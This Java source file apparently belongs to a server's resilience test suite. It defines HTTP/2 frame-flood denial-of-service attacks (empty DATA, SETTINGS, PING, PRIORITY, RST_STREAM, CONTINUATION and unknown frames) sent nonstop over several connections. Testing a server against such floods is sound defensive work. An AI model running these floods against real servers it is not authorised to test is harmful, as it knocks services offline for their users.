package geosearch.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;

/** Frames that cost the server something and carry nothing. */
final class FrameFloods {

  private static final int CONNECTIONS = 4;
  private static final int AT_ONCE = 200;
  private static final byte[] LOCATE = Frames.call(Requests.LOCATE);

  private FrameFloods() {}

  static List<Attack> attacks() {
    return List.of(
        flood(
            "empty-data",
            "empty DATA on one stream",
            true,
            (c, s) -> c.frame(Frames.DATA, 0, s, Frames.NOTHING)),
        flood(
            "padded-data",
            "DATA that is padding alone",
            false,
            (c, s) -> c.frame(Frames.DATA, Frames.PADDED, s, new byte[] {0})),
        flood(
            "settings", "SETTINGS", true, (c, s) -> c.frame(Frames.SETTINGS, 0, 0, Frames.NOTHING)),
        flood(
            "settings-window",
            "SETTINGS that change the window to and fro",
            false,
            FrameFloods::window),
        flood(
            "settings-acks",
            "acknowledgements of SETTINGS that nobody sent",
            false,
            (c, s) -> c.frame(Frames.SETTINGS, Frames.ACK, 0, Frames.NOTHING)),
        flood("priority", "PRIORITY", false, (c, s) -> c.frame(Frames.PRIORITY, 0, s, new byte[5])),
        flood("priority-idle", "PRIORITY of ever new streams", false, FrameFloods::priorities),
        flood("pings", "PING", false, (c, s) -> c.frame(Frames.PING, 0, 0, new byte[8])),
        flood(
            "ping-acks",
            "acknowledgements of PINGs that nobody sent",
            false,
            (c, s) -> c.frame(Frames.PING, Frames.ACK, 0, new byte[8])),
        flood("window-updates", "WINDOW_UPDATE by 1", false, (c, s) -> c.windowUpdate(0, 1)),
        flood(
            "window-updates-stream",
            "WINDOW_UPDATE by 1 of one stream",
            false,
            (c, s) -> c.windowUpdate(s, 1)),
        flood(
            "unknown-frames",
            "frames of a type that there is not",
            false,
            (c, s) -> c.frame(250, 0, 0, new byte[8])),
        flood(
            "large-unknown-frames",
            "unknown frames of 16 kB",
            false,
            (c, s) -> c.frame(250, 0, 0, new byte[Frames.LARGEST])),
        flood("rst-idle", "RST_STREAM of a stream that has ended", false, FrameFloods::resetTwice),
        flood("empty-continuation", "empty CONTINUATION", false, FrameFloods::continuation),
        flood(
            "empty-messages",
            "empty messages on one stream of a unary method",
            false,
            (c, s) -> c.frame(Frames.DATA, 0, s, new byte[5])),
        flood("goaway", "GOAWAY", false, (c, s) -> c.frame(Frames.GOAWAY, 0, 0, new byte[8])));
  }

  private interface Once {
    void send(RawConnection connection, int stream) throws IOException;
  }

  private static Attack flood(String name, String what, boolean quick, Once once) {
    return new Attack(
        name,
        what + ", without pause on %d connections".formatted(CONNECTIONS),
        quick,
        stage ->
            stage.each(
                CONNECTIONS,
                connection -> {
                  int stream = connection.call(LOCATE, false);
                  while (stage.goesOn() && !connection.ended()) {
                    for (int i = 0; i < AT_ONCE; i++) {
                      once.send(connection, stream);
                    }
                    connection.flush();
                  }
                  if (connection.ended()) {
                    throw new IOException("the server closed the connection");
                  }
                }));
  }

  private static void window(RawConnection connection, int stream) throws IOException {
    for (int window : new int[] {1 << 20, 1}) {
      connection.frame(
          Frames.SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort((short) 4).putInt(window).array());
    }
  }

  private static void priorities(RawConnection connection, int stream) throws IOException {
    connection.frame(Frames.PRIORITY, 0, connection.stream(), new byte[5]);
  }

  private static void resetTwice(RawConnection connection, int stream) throws IOException {
    connection.reset(stream);
  }

  private static void continuation(RawConnection connection, int stream) throws IOException {
    int next = connection.stream();
    connection.frame(Frames.HEADERS, 0, next, LOCATE);
    for (int i = 0; i < 500; i++) {
      connection.frame(Frames.CONTINUATION, 0, next, Frames.NOTHING);
    }
    connection.frame(Frames.CONTINUATION, Frames.END_HEADERS, next, Frames.NOTHING);
  }
}
